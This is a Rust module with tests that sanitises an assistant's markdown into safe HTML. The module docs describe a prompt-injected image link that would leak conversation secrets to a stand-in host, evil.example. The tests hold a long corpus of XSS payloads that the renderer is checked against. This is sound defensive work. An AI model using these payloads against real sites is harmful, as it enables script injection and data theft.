//! Markdown to safe HTML for assistant messages.
//!
//! The text comes from a language model, which can be steered by whatever it read (prompt
//! injection), so it is treated as hostile. The pipeline is parse, rewrite the AST, format:
//!
//! - **User HTML is never markup.** comrak keeps `render.unsafe` off and `render.escape` on, so
//!   raw HTML blocks and inline tags print as visible text (people asking about HTML see it).
//! - **Our own markup goes in as [`NodeValue::Raw`] nodes**, which comrak writes verbatim
//!   whatever `unsafe` says. That is how code blocks, table wrappers and links get their
//!   markup without ever switching `unsafe` on for user content.
//! - **Links are checked on the parsed URL**, after comrak decoded entities and backslash
//!   escapes, against an allow-list of schemes (http, https, mailto, or none: relative and
//!   `#anchor`). Everything else, and empty URLs (an empty `href` reloads the host page),
//!   becomes plain text. Safe links open in a new tab with `rel="noopener noreferrer"`.
//! - **Images become links.** An `<img>` loads without a click, so a prompt-injected
//!   `![](https://evil.example/?q=<secret>)` would leak the conversation to a third party the
//!   moment it rendered. A link needs the user's click and shows where it goes. Only http(s)
//!   image URLs make a link; others show their alt text.
//!
//! Fenced and indented code blocks render as a `div.oc-code` with a language label, a copy
//! button (wired by the view layer through `data-oc-copy`) and highlighted code. Tables are
//! wrapped in `div.oc-table-wrap` for horizontal scrolling.

use std::borrow::Cow;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;

use comrak::nodes::{AstNode, NodeValue};
use comrak::options::{BrokenLinkCallback, BrokenLinkReference};
use comrak::{Arena, Options, ResolvedReference};

use super::highlight::{highlight_into, push_escaped};

/// Renders a complete markdown message to safe HTML.
pub fn render_markdown(src: &str) -> String {
    render(src, OpenFences::Highlight, None)
}

/// How to show a fenced code block whose closing fence has not arrived.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum OpenFences {
    /// As any other code block: what a finished message does (the fence ends with the text).
    Highlight,
    /// As plain escaped text in `pre.oc-code-pending`: while streaming, highlighting a block
    /// that is still growing would recolour it on every chunk.
    ShowPending,
}

/// Parses and renders `src`. When `unresolved_reference` is given it is set if the text
/// contains something that would be a reference link had its definition existed (`[label]`);
/// the streaming renderer uses this to know what a later definition could still change.
pub(crate) fn render(
    src: &str,
    open_fences: OpenFences,
    unresolved_reference: Option<&AtomicBool>,
) -> String {
    let arena = Arena::new();
    let options = comrak_options(unresolved_reference);
    let root = comrak::parse_document(&arena, src, &options);
    format_sanitized(&arena, root, &options, open_fences)
}

/// The comrak options: GFM tables, strikethrough, autolinks and task lists; no hard breaks,
/// no smart punctuation; raw HTML escaped.
pub(crate) fn comrak_options(unresolved_reference: Option<&AtomicBool>) -> Options<'_> {
    let mut options = Options::default();
    options.extension.strikethrough = true;
    options.extension.table = true;
    options.extension.autolink = true;
    options.extension.tasklist = true;
    options.parse.smart = false;
    options.render.hardbreaks = false;
    options.render.r#unsafe = false;
    options.render.escape = true;
    if let Some(flag) = unresolved_reference {
        options.parse.broken_link_callback = Some(Arc::new(RecordUnresolvedReference(flag)));
    }
    options
}

/// A broken-link callback that resolves nothing and only remembers that it was asked.
struct RecordUnresolvedReference<'flag>(&'flag AtomicBool);

impl BrokenLinkCallback for RecordUnresolvedReference<'_> {
    fn resolve(&self, reference: BrokenLinkReference) -> Option<ResolvedReference> {
        // comrak asks about every bracket pair, including the `[ ]` of an unchecked task item;
        // a label of only whitespace can never be defined, so it cannot change later. (`[x]`
        // of a checked task can: a `[x]: url` definition turns it into a link.)
        if !reference.original.trim().is_empty() {
            self.0.store(true, Ordering::Relaxed);
        }
        None
    }
}

/// Rewrites the parsed document (see the module docs) and formats it as HTML.
pub(crate) fn format_sanitized<'a>(
    arena: &'a Arena<'a>,
    root: &'a AstNode<'a>,
    options: &Options,
    open_fences: OpenFences,
) -> String {
    // Children before parents (reverse pre-order), so an image inside a link is handled while
    // the link is still in the tree to be seen as its ancestor.
    let nodes: Vec<&AstNode> = root.descendants().collect();
    for node in nodes.into_iter().rev() {
        rewrite_node(arena, node, open_fences);
    }
    let mut html = String::new();
    if comrak::format_html(root, options, &mut html).is_err() {
        // Formatting into a String cannot fail; if it ever did, show nothing rather than half.
        html.clear();
    }
    html
}

fn rewrite_node<'a>(arena: &'a Arena<'a>, node: &'a AstNode<'a>, open_fences: OpenFences) {
    enum Rewrite {
        Replace(String),
        WrapTable,
        Anchor {
            url: String,
            title: String,
            class: Option<&'static str>,
        },
        Unwrap,
    }
    let rewrite = match &node.data().value {
        NodeValue::CodeBlock(code) => {
            let pending = open_fences == OpenFences::ShowPending && code.fenced && !code.closed;
            Rewrite::Replace(if pending {
                pending_code_block_html(&code.literal)
            } else {
                code_block_html(&code.info, &code.literal)
            })
        }
        NodeValue::Table(_) => Rewrite::WrapTable,
        NodeValue::Link(link) if !inside_link_or_image(node) && link_url_is_safe(&link.url) => {
            Rewrite::Anchor {
                url: link.url.clone(),
                title: link.title.clone(),
                class: None,
            }
        }
        NodeValue::Image(image) if !inside_link_or_image(node) && image_url_is_safe(&image.url) => {
            Rewrite::Anchor {
                url: image.url.clone(),
                title: image.title.clone(),
                class: Some("oc-img-link"),
            }
        }
        // Unsafe, empty or nested links and images: keep their text, drop the link.
        NodeValue::Link(_) | NodeValue::Image(_) => Rewrite::Unwrap,
        _ => return,
    };
    match rewrite {
        Rewrite::Replace(html) => node.data_mut().value = NodeValue::Raw(html),
        Rewrite::WrapTable => {
            node.insert_before(raw_node(arena, "<div class=\"oc-table-wrap\">".to_owned()));
            node.insert_after(raw_node(arena, "</div>\n".to_owned()));
        }
        Rewrite::Anchor { url, title, class } => {
            if node.first_child().is_none() {
                // An image without alt text: the address is the only label there is.
                node.append(arena.alloc(NodeValue::Text(Cow::Owned(url.clone())).into()));
            }
            node.insert_before(raw_node(arena, anchor_open_tag(&url, &title, class)));
            move_children_before(node);
            node.insert_before(raw_node(arena, "</a>".to_owned()));
            node.detach();
        }
        Rewrite::Unwrap => {
            move_children_before(node);
            node.detach();
        }
    }
}

fn raw_node<'a>(arena: &'a Arena<'a>, html: String) -> &'a AstNode<'a> {
    arena.alloc(NodeValue::Raw(html).into())
}

/// Moves `node`'s children, in order, to just before it.
fn move_children_before<'a>(node: &'a AstNode<'a>) {
    let children: Vec<&AstNode> = node.children().collect();
    for child in children {
        node.insert_before(child);
    }
}

/// Links cannot nest in HTML (the browser would split them), and an image inside a link or
/// image would make a link inside a link, so nested ones keep only their text.
fn inside_link_or_image(node: &AstNode<'_>) -> bool {
    let mut ancestor = node.parent();
    while let Some(current) = ancestor {
        if matches!(
            current.data().value,
            NodeValue::Link(_) | NodeValue::Image(_)
        ) {
            return true;
        }
        ancestor = current.parent();
    }
    false
}

/// Link schemes allowed. An allow-list: `javascript:`, `vbscript:`, `data:`, `file:` and any
/// scheme a browser adds tomorrow are refused without being named.
const LINK_SCHEMES: [&str; 3] = ["http", "https", "mailto"];
/// Image URLs must be absolute http(s): they become links to somewhere on the web.
const IMAGE_SCHEMES: [&str; 2] = ["http", "https"];

/// Whether `url` (as parsed: entities and backslash escapes already decoded) may be an `href`.
/// No scheme at all (relative paths, `#anchor`, `//host/path`) is allowed.
pub(crate) fn link_url_is_safe(url: &str) -> bool {
    if url.trim().is_empty() || url.chars().any(char::is_control) {
        return false;
    }
    match url_scheme(url) {
        None => true,
        Some(scheme) => LINK_SCHEMES
            .iter()
            .any(|allowed| allowed.eq_ignore_ascii_case(scheme)),
    }
}

fn image_url_is_safe(url: &str) -> bool {
    !url.chars().any(char::is_control)
        && url_scheme(url).is_some_and(|scheme| {
            IMAGE_SCHEMES
                .iter()
                .any(|allowed| allowed.eq_ignore_ascii_case(scheme))
        })
}

/// The text before the first `:` when no `/` or `?` comes first. Deliberately cruder than a
/// browser's URL parser, and stricter: a browser strips leading spaces and control characters
/// and deletes tabs and newlines anywhere, so ` java\tscript:` runs script there. Here that
/// whole prefix is the "scheme", which is not on the allow-list, so it is refused. `#` does
/// not end the scheme either, so a double-encoded `&#106;avascript:` is refused too (a
/// browser would read it as a harmless relative URL; `#a:b` anchors are the price).
fn url_scheme(url: &str) -> Option<&str> {
    let end = url.find([':', '/', '?'])?;
    url[end..].starts_with(':').then(|| &url[..end])
}

pub(crate) fn anchor_open_tag(url: &str, title: &str, class: Option<&str>) -> String {
    let mut tag = String::with_capacity(url.len() + title.len() + 64);
    tag.push_str("<a");
    if let Some(class) = class {
        tag.push_str(" class=\"");
        tag.push_str(class);
        tag.push('"');
    }
    tag.push_str(" href=\"");
    // comrak's own href escaping (percent-encoding, `&` and `'` as entities), so our links
    // look exactly like the ones comrak would have written. Writing to a String cannot fail.
    let _ = comrak::html::escape_href(&mut tag, url, false);
    tag.push('"');
    if !title.is_empty() {
        tag.push_str(" title=\"");
        push_escaped(&mut tag, title);
        tag.push('"');
    }
    tag.push_str(" target=\"_blank\" rel=\"noopener noreferrer\">");
    tag
}

/// The language word of a fence info string: its first word, up to any comma
/// (```` ```rust,ignore ````).
fn language_of(info: &str) -> &str {
    let first_word = info.split_ascii_whitespace().next().unwrap_or("");
    first_word.split(',').next().unwrap_or("")
}

fn code_block_html(info: &str, literal: &str) -> String {
    let lang = language_of(info);
    let mut html = String::with_capacity(literal.len() * 2 + 256);
    html.push_str("<div class=\"oc-code\"");
    if !lang.is_empty() {
        html.push_str(" data-lang=\"");
        push_escaped(&mut html, lang);
        html.push('"');
    }
    html.push_str("><div class=\"oc-code-bar\">");
    if !lang.is_empty() {
        html.push_str("<span class=\"oc-lang\">");
        push_escaped(&mut html, lang);
        html.push_str("</span>");
    }
    html.push_str(
        "<button type=\"button\" class=\"oc-copy\" data-oc-copy>Copy</button></div><pre><code",
    );
    if !lang.is_empty() {
        html.push_str(" class=\"language-");
        push_escaped(&mut html, lang);
        html.push('"');
    }
    html.push('>');
    highlight_into(&mut html, lang, literal);
    // Ends with a newline like every block comrak writes: the streaming renderer relies on
    // blocks rendering the same whether or not something was rendered before them.
    html.push_str("</code></pre></div>\n");
    html
}

fn pending_code_block_html(literal: &str) -> String {
    let mut html = String::with_capacity(literal.len() + 64);
    html.push_str("<pre class=\"oc-code-pending\"><code>");
    push_escaped(&mut html, literal);
    html.push_str("</code></pre>\n");
    html
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(markdown: &str, expected_html: &str) {
        assert_eq!(
            render_markdown(markdown),
            expected_html,
            "markdown: {markdown:?}"
        );
    }

    const COPY_BUTTON: &str =
        "<button type=\"button\" class=\"oc-copy\" data-oc-copy>Copy</button>";
    const NEW_TAB: &str = "target=\"_blank\" rel=\"noopener noreferrer\"";

    #[test]
    fn paragraphs_emphasis_strikethrough_and_no_smart_punctuation_or_hard_breaks() {
        check(
            "Hello *world* ~~old~~ \"quotes\" -- dash\nnext line\n",
            "<p>Hello <em>world</em> <del>old</del> &quot;quotes&quot; -- dash\nnext line</p>\n",
        );
    }

    /// comrak's entity table comes from widget/patches/entities: HTML 4 names only.
    #[test]
    fn html4_entities_decode_and_html5_only_names_stay_text() {
        check(
            "&copy; &mdash; &rarr; &nbsp;&apos; &#x2713; &check;\n",
            "<p>© — → \u{a0}' ✓ &amp;check;</p>\n",
        );
    }

    /// Link labels fold case through widget/patches/caseless.
    #[test]
    fn reference_labels_match_across_case_and_sharp_s() {
        check(
            "[STRASSE] [Ωμέγα]\n\n[straße]: /a\n[ΩΜΈΓΑ]: /b\n",
            &format!(
                "<p><a href=\"/a\" {NEW_TAB}>STRASSE</a> <a href=\"/b\" {NEW_TAB}>Ωμέγα</a></p>\n"
            ),
        );
    }

    /// Delimiter runs next to Unicode punctuation flank as CommonMark says (comrak reads the
    /// categories from widget/patches/finl_unicode).
    #[test]
    fn emphasis_next_to_unicode_punctuation_follows_commonmark() {
        check("*“引用”*\n", "<p><em>“引用”</em></p>\n");
        check("a*“b”*c\n", "<p>a*“b”*c</p>\n");
        check("**“引用”**后文\n", "<p>**“引用”**后文</p>\n");
    }

    #[test]
    fn raw_html_is_shown_as_text() {
        check(
            "<b>bold</b> text\n",
            "<p>&lt;b&gt;bold&lt;/b&gt; text</p>\n",
        );
        check(
            "<div>\nblock\n</div>\n",
            "&lt;div&gt;\nblock\n&lt;/div&gt;\n",
        );
    }

    #[test]
    fn safe_links_open_in_a_new_tab() {
        check(
            "[a](https://x.example/?q=1&r='2' \"T\") [b](/docs) [c](#top) [d](mailto:me@x.example)\n",
            &format!(
                "<p><a href=\"https://x.example/?q=1&amp;r=&#x27;2&#x27;\" title=\"T\" {NEW_TAB}>a</a> \
                 <a href=\"/docs\" {NEW_TAB}>b</a> <a href=\"#top\" {NEW_TAB}>c</a> \
                 <a href=\"mailto:me@x.example\" {NEW_TAB}>d</a></p>\n"
            ),
        );
    }

    #[test]
    fn gfm_autolinks_are_links() {
        check(
            "see www.example.com or me@example.com\n",
            &format!(
                "<p>see <a href=\"http://www.example.com\" {NEW_TAB}>www.example.com</a> or \
                 <a href=\"mailto:me@example.com\" {NEW_TAB}>me@example.com</a></p>\n"
            ),
        );
    }

    #[test]
    fn unsafe_and_empty_links_become_plain_text() {
        check("[x](javascript:alert(1)) [y]() [z](<>)\n", "<p>x y z</p>\n");
        check("<javascript:alert(1)>\n", "<p>javascript:alert(1)</p>\n");
    }

    #[test]
    fn images_become_links_and_unsafe_images_show_their_alt_text() {
        check(
            "![a *cat*](https://i.example/cat.png \"C\") ![](http://i.example/x.png) ![d](data:image/png;base64,AA) ![r](/rel.png)\n",
            &format!(
                "<p><a class=\"oc-img-link\" href=\"https://i.example/cat.png\" title=\"C\" {NEW_TAB}>a <em>cat</em></a> \
                 <a class=\"oc-img-link\" href=\"http://i.example/x.png\" {NEW_TAB}>http://i.example/x.png</a> d r</p>\n"
            ),
        );
    }

    #[test]
    fn image_inside_link_keeps_only_its_alt_text() {
        check(
            "[![badge](https://i.example/b.svg)](https://ci.example/)\n",
            &format!("<p><a href=\"https://ci.example/\" {NEW_TAB}>badge</a></p>\n"),
        );
    }

    #[test]
    fn fenced_code_is_highlighted_with_a_language_bar_and_copy_button() {
        check(
            "```rust\nlet x = 1;\n```\n",
            &format!(
                "<div class=\"oc-code\" data-lang=\"rust\"><div class=\"oc-code-bar\"><span class=\"oc-lang\">rust</span>\
                 {COPY_BUTTON}</div><pre><code class=\"language-rust\"><span class=\"oc-k\">let</span> x = \
                 <span class=\"oc-n\">1</span>;\n</code></pre></div>\n"
            ),
        );
    }

    #[test]
    fn code_without_language_and_indented_code_have_no_label() {
        let expected =
            format!("<div class=\"oc-code\"><div class=\"oc-code-bar\">{COPY_BUTTON}</div><pre><code>a &lt; b\n</code></pre></div>\n");
        check("```\na < b\n```\n", &expected);
        check("    a < b\n", &expected);
    }

    #[test]
    fn code_language_label_is_escaped_and_cut_at_a_comma() {
        check(
            "```\"><b>,x y\nz\n```\n",
            &format!(
                "<div class=\"oc-code\" data-lang=\"&quot;&gt;&lt;b&gt;\"><div class=\"oc-code-bar\">\
                 <span class=\"oc-lang\">&quot;&gt;&lt;b&gt;</span>{COPY_BUTTON}</div><pre><code \
                 class=\"language-&quot;&gt;&lt;b&gt;\">z\n</code></pre></div>\n"
            ),
        );
    }

    #[test]
    fn tables_are_wrapped_for_horizontal_scrolling() {
        check(
            "| a | b |\n|---|--:|\n| 1 | 2 |\n",
            "<div class=\"oc-table-wrap\">\n<table>\n<thead>\n<tr>\n<th>a</th>\n<th align=\"right\">b</th>\n</tr>\n\
             </thead>\n<tbody>\n<tr>\n<td>1</td>\n<td align=\"right\">2</td>\n</tr>\n</tbody>\n</table>\n</div>\n",
        );
    }

    #[test]
    fn task_list_items_have_disabled_checkboxes() {
        check(
            "- [ ] todo\n- [x] done\n",
            "<ul>\n<li><input type=\"checkbox\" disabled=\"\" /> todo</li>\n\
             <li><input type=\"checkbox\" checked=\"\" disabled=\"\" /> done</li>\n</ul>\n",
        );
    }

    #[test]
    fn open_fences_render_pending_only_when_asked() {
        let source = "```js\nlet a = '<';\n";
        assert_eq!(
            render(source, OpenFences::ShowPending, None),
            "<pre class=\"oc-code-pending\"><code>let a = &#39;&lt;&#39;;\n</code></pre>\n"
        );
        assert!(render(source, OpenFences::Highlight, None)
            .starts_with("<div class=\"oc-code\" data-lang=\"js\">"));
        // A closed fence is highlighted even in pending mode.
        assert!(render("```js\nx\n```", OpenFences::ShowPending, None)
            .starts_with("<div class=\"oc-code\""));
    }

    #[test]
    fn unresolved_references_are_reported() {
        let flag = AtomicBool::new(false);
        render(
            "see [1] and [a](http://x.example)\n",
            OpenFences::Highlight,
            Some(&flag),
        );
        assert!(flag.load(Ordering::Relaxed));
        let flag = AtomicBool::new(false);
        render(
            "see [a](http://x.example) and `x[0]`\n\n- [ ] todo\n",
            OpenFences::Highlight,
            Some(&flag),
        );
        assert!(!flag.load(Ordering::Relaxed));
        let flag = AtomicBool::new(false);
        render("- [x] done\n", OpenFences::Highlight, Some(&flag));
        assert!(
            flag.load(Ordering::Relaxed),
            "a later `[x]: url` would make this a link"
        );
    }

    #[test]
    fn url_scheme_checks() {
        for safe in [
            "http://a",
            "HTTPS://a",
            "mailto:x@y",
            "/path:colon",
            "rel/a:b",
            "?q=a:b",
            "//host/x",
            "a",
            "#top",
        ] {
            assert!(link_url_is_safe(safe), "{safe:?} should be allowed");
        }
        for unsafe_url in [
            "",
            " ",
            "javascript:x",
            "JaVaScRiPt:x",
            " javascript:x",
            "java\tscript:x",
            "java\nscript:x",
            "\u{1}javascript:x",
            "\u{a0}javascript:x",
            "\u{feff}javascript:x",
            "vbscript:x",
            "data:text/html,x",
            "file:///etc/passwd",
            "ftp://x",
            "&#106;avascript:x",
            "%6Aavascript:x",
            "#frag:x",
        ] {
            assert!(
                !link_url_is_safe(unsafe_url),
                "{unsafe_url:?} should be refused"
            );
        }
        assert!(image_url_is_safe("https://i.example/a.png"));
        assert!(!image_url_is_safe("/a.png"));
        assert!(!image_url_is_safe("data:image/png;base64,AA"));
    }

    // ---- XSS corpus -------------------------------------------------------------------------

    /// Tags the renderer may produce, and the attributes each may carry.
    const ALLOWED_TAGS: &[&str] = &[
        "p",
        "a",
        "em",
        "strong",
        "del",
        "code",
        "pre",
        "div",
        "span",
        "button",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "ul",
        "ol",
        "li",
        "input",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "blockquote",
        "hr",
        "br",
    ];
    const ALLOWED_ATTRIBUTES: &[&str] = &[
        "class",
        "href",
        "title",
        "target",
        "rel",
        "type",
        "data-lang",
        "data-oc-copy",
        "align",
        "start",
        "checked",
        "disabled",
    ];

    struct Tag {
        name: String,
        closing: bool,
        attributes: Vec<(String, String)>,
    }

    /// A small, strict scanner for the HTML this module writes. Any `<` must open a well-formed
    /// tag: escaped user text never contains one.
    fn scan_tags(html: &str) -> Result<Vec<Tag>, String> {
        let bytes = html.as_bytes();
        let mut tags = Vec::new();
        let mut position = 0;
        while let Some(found) = html[position..].find('<') {
            position += found + 1;
            let closing = bytes.get(position) == Some(&b'/');
            if closing {
                position += 1;
            }
            let name_start = position;
            while bytes
                .get(position)
                .is_some_and(|b| b.is_ascii_alphanumeric())
            {
                position += 1;
            }
            if position == name_start {
                return Err(format!("bare '<' at byte {name_start}"));
            }
            let name = html[name_start..position].to_ascii_lowercase();
            let mut attributes = Vec::new();
            loop {
                while bytes.get(position).is_some_and(|b| b.is_ascii_whitespace()) {
                    position += 1;
                }
                match bytes.get(position) {
                    None => return Err(format!("unterminated <{name}")),
                    Some(b'>') => {
                        position += 1;
                        break;
                    }
                    Some(b'/') if bytes.get(position + 1) == Some(&b'>') => {
                        position += 2;
                        break;
                    }
                    Some(_) => {}
                }
                let attribute_start = position;
                while bytes
                    .get(position)
                    .is_some_and(|b| !b" \t\n=>/".contains(b))
                {
                    position += 1;
                }
                if position == attribute_start {
                    return Err(format!("junk in <{name}> at byte {position}"));
                }
                let attribute = html[attribute_start..position].to_ascii_lowercase();
                let mut value = String::new();
                if bytes.get(position) == Some(&b'=') {
                    position += 1;
                    let quote = match bytes.get(position) {
                        Some(&quote @ (b'"' | b'\'')) => quote,
                        _ => return Err(format!("unquoted value for {attribute} in <{name}>")),
                    };
                    let value_start = position + 1;
                    let value_end = html[value_start..]
                        .find(quote as char)
                        .map(|end| value_start + end)
                        .ok_or_else(|| format!("unterminated value for {attribute}"))?;
                    value = html[value_start..value_end].to_owned();
                    position = value_end + 1;
                }
                attributes.push((attribute, value));
            }
            tags.push(Tag {
                name,
                closing,
                attributes,
            });
        }
        Ok(tags)
    }

    /// Decodes the character references a browser would decode in an attribute value.
    fn decode_entities(value: &str) -> String {
        let mut decoded = String::new();
        let mut rest = value;
        while let Some(amp) = rest.find('&') {
            decoded.push_str(&rest[..amp]);
            rest = &rest[amp..];
            let end = rest.find(';').unwrap_or(rest.len());
            let entity = &rest[1..end];
            let character = match entity {
                "amp" => Some('&'),
                "lt" => Some('<'),
                "gt" => Some('>'),
                "quot" => Some('"'),
                "colon" => Some(':'),
                "Tab" => Some('\t'),
                "NewLine" => Some('\n'),
                _ => entity
                    .strip_prefix("#x")
                    .or_else(|| entity.strip_prefix("#X"))
                    .and_then(|hex| u32::from_str_radix(hex, 16).ok())
                    .or_else(|| entity.strip_prefix('#').and_then(|dec| dec.parse().ok()))
                    .and_then(char::from_u32),
            };
            match character {
                Some(character) if end < rest.len() => {
                    decoded.push(character);
                    rest = &rest[end + 1..];
                }
                _ => {
                    decoded.push('&');
                    rest = &rest[1..];
                }
            }
        }
        decoded.push_str(rest);
        decoded
    }

    /// What a browser would take as the scheme of an href: leading C0 controls and spaces
    /// stripped, tabs and newlines removed, lowercased.
    fn browser_view_of_url(value: &str) -> String {
        let decoded = decode_entities(value);
        decoded
            .trim_start_matches(|c: char| c <= ' ')
            .chars()
            .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
            .collect::<String>()
            .to_ascii_lowercase()
    }

    /// The schemes the module docs promise for links and image links, written out here rather than
    /// taken from the code under test.
    const PROMISED_LINK_SCHEMES: [&str; 3] = ["http", "https", "mailto"];
    const PROMISED_IMAGE_SCHEMES: [&str; 2] = ["http", "https"];

    /// The scheme of a URL as a browser reads it (after [`browser_view_of_url`]): an ASCII letter,
    /// then letters, digits, `+`, `-` or `.`, then `:`. Anything else is a relative URL.
    fn browser_scheme(url: &str) -> Option<&str> {
        let scheme = &url[..url.find(':')?];
        let mut characters = scheme.chars();
        let starts_with_letter = characters.next()?.is_ascii_alphabetic();
        let rest_is_scheme = characters.all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c));
        (starts_with_letter && rest_is_scheme).then_some(scheme)
    }

    #[test]
    fn browser_scheme_reads_urls_as_a_browser_does() {
        assert_eq!(browser_scheme("javascript:x"), Some("javascript"));
        assert_eq!(browser_scheme("view-source+x.y:z"), Some("view-source+x.y"));
        assert_eq!(browser_scheme("/a:b"), None);
        assert_eq!(browser_scheme("#a:b"), None);
        assert_eq!(browser_scheme("%6aavascript:x"), None);
        assert_eq!(browser_scheme("1a:b"), None);
        assert_eq!(browser_scheme("relative"), None);
    }

    #[track_caller]
    fn assert_safe_html(markdown: &str) {
        assert_html_is_safe(markdown, &render_markdown(markdown));
    }

    /// Everything the module docs promise about `html`, the rendering of `markdown`: only the
    /// tags and attributes this module writes, no event handler, anchors that open in a new tab,
    /// and every `href` non-empty with an allowed scheme (http, https, mailto) or none (relative
    /// and `#anchor`) as a browser reads it; image links only http(s).
    #[track_caller]
    fn assert_html_is_safe(markdown: &str, html: &str) {
        let tags = scan_tags(html)
            .unwrap_or_else(|error| panic!("{error}\nmarkdown: {markdown:?}\nhtml: {html}"));
        for tag in &tags {
            let context = || format!("<{}> in {html}\nfrom markdown {markdown:?}", tag.name);
            assert!(
                ALLOWED_TAGS.contains(&tag.name.as_str()),
                "tag not allowed: {}",
                context()
            );
            if tag.closing {
                assert!(
                    tag.attributes.is_empty(),
                    "closing tag with attributes: {}",
                    context()
                );
                continue;
            }
            for (attribute, value) in &tag.attributes {
                assert!(
                    !attribute.starts_with("on"),
                    "event handler {attribute}: {}",
                    context()
                );
                assert!(
                    ALLOWED_ATTRIBUTES.contains(&attribute.as_str()),
                    "attribute {attribute}: {}",
                    context()
                );
                if attribute == "href" {
                    let url = browser_view_of_url(value);
                    assert!(!url.is_empty(), "empty href: {}", context());
                    if let Some(scheme) = browser_scheme(&url) {
                        assert!(
                            PROMISED_LINK_SCHEMES.contains(&scheme),
                            "{scheme}: href: {}",
                            context()
                        );
                    }
                }
            }
            let attribute = |name: &str| {
                tag.attributes
                    .iter()
                    .find(|(key, _)| key == name)
                    .map(|(_, value)| value.as_str())
            };
            if tag.name == "a" {
                assert!(
                    attribute("href").is_some(),
                    "anchor without href: {}",
                    context()
                );
                assert_eq!(attribute("target"), Some("_blank"), "{}", context());
                if attribute("class") == Some("oc-img-link") {
                    let url = browser_view_of_url(attribute("href").unwrap_or_default());
                    assert!(
                        browser_scheme(&url)
                            .is_some_and(|scheme| PROMISED_IMAGE_SCHEMES.contains(&scheme)),
                        "image link to a URL that is not absolute http(s): {}",
                        context()
                    );
                }
                assert_eq!(
                    attribute("rel"),
                    Some("noopener noreferrer"),
                    "{}",
                    context()
                );
            }
            if tag.name == "input" {
                assert_eq!(attribute("type"), Some("checkbox"), "{}", context());
                assert!(attribute("disabled").is_some(), "{}", context());
            }
        }
        let lowered = html.to_ascii_lowercase();
        for forbidden in [
            "<script", "<iframe", "<object", "<embed", "<style", "<svg", "<math", "<form", "<img",
            "<details",
        ] {
            assert!(
                !lowered.contains(forbidden),
                "{forbidden} in {html}\nfrom markdown {markdown:?}"
            );
        }
    }

    const XSS_PAYLOADS: &[&str] = &[
        // Raw HTML, block and inline.
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<details open ontoggle=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"http://x\" onclick=\"alert(1)\">x</a>",
        "<object data=\"javascript:alert(1)\">",
        "<embed src=\"javascript:alert(1)\">",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<form action=\"javascript:alert(1)\"><button>x</button></form>",
        "<body onload=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
        "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert(1)\">",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
        "<base href=\"javascript:alert(1)//\">",
        "<xss onafterscriptexecute=alert(1)><script>1</script>",
        "</p><script>alert(1)</script><p>",
        "<!-- <script>alert(1)</script> -->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?php echo 1 ?><script>alert(1)</script>",
        "text <span onmouseover=alert(1)>hover</span> text",
        // Markdown inside HTML.
        "<div onmouseover=\"alert(1)\">*md inside html*</div>",
        "<div>\n\n[x](javascript:alert(1))\n\n</div>",
        "<details>\n\n<summary onclick=alert(1)>x</summary>\n\n</details>",
        // Link destinations.
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](&#x6A;avascript:alert(1))",
        "[x](&#0000106avascript:alert(1))",
        "[x](javascript&colon;alert(1))",
        "[x](jav&#x09;ascript:alert(1))",
        "[x](jav&#x0A;ascript:alert(1))",
        "[x](<java\tscript:alert(1)>)",
        "[x](java\u{0}script:alert(1))",
        "[x](\u{1}javascript:alert(1))",
        "[x]( javascript:alert(1))",
        "[x](  javascript:alert(1)  )",
        "[x](\u{a0}javascript:alert(1))",
        "[x](\u{2028}javascript:alert(1))",
        "[x](\u{feff}javascript:alert(1))",
        "[x](\u{ff4a}avascript:alert(1))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](file:///etc/passwd)",
        "[x](javascript://%0aalert(1))",
        "[x](javascript:alert%281%29)",
        "[x](%6Aavascript:alert(1))",
        "[a](javascript:alert(1) \"title\")",
        "[x](http://x.example/\"onmouseover=\"alert(1))",
        "[x](http://x.example/'onmouseover='alert(1))",
        "[x](http://x.example \"a\\\" onmouseover=\\\"alert(1)\")",
        "[<img src=x onerror=alert(1)>](http://x.example)",
        "[x](https://example.com)<script>alert(1)</script>",
        // Images.
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "![x](data:image/png;base64,iVBORw0KGgo=)",
        "![x](javascript:alert(1))",
        "![x\"onerror=\"alert(1)](http://x.example/a.png)",
        "![x](http://x.example/a.png \"t\\\"onerror=\\\"alert(1)\")",
        "![<svg onload=alert(1)>](https://x.example/a.png)",
        "[![x](javascript:alert(1))](javascript:alert(2))",
        // Autolinks.
        "<javascript:alert(1)>",
        "<JAVASCRIPT:alert(1)>",
        "<vbscript:alert(1)>",
        "<data:text/html,<script>alert(1)</script>>",
        "<file:///etc/passwd>",
        "http://x.example/<script>alert(1)</script>",
        "www.x.example/\"onmouseover=\"alert(1)",
        "javascript:alert(1)",
        // Reference links.
        "[x][ref]\n\n[ref]: javascript:alert(1)",
        "[ref]\n\n[ref]: data:text/html,x",
        "[x][r]\n\n[r]: <javascript:alert(1)> \"t\"",
        "![x][img]\n\n[img]: data:image/svg+xml,<svg onload=alert(1)>",
        // Code spans, fences and backtick tricks.
